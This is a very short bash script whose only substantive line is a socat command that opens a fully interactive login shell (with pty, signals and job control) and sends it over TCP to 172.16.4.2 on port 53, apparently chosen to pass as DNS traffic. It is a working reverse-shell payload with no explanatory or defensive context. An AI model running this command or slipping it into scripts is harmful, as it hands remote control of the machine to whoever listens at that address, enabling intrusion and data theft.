#!/usr/bin/env bash
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:172.16.4.2:53
set -eu
